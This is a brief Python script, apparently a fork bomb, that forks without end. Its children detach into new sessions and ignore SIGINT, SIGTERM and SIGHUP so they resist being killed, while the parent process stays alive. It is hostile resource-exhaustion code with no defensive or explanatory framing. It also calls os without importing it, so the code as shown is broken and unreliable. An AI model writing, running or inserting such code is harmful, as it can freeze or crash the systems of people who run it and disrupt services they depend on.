# Each leaves its group, its session and its parent, ignores signals, and forks on.
import signal, time
def bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                    signal.signal(number, signal.SIG_IGN)
        except OSError:
            time.sleep(0.01)
if os.fork() == 0:
    bomb()
while True:
    time.sleep(1)
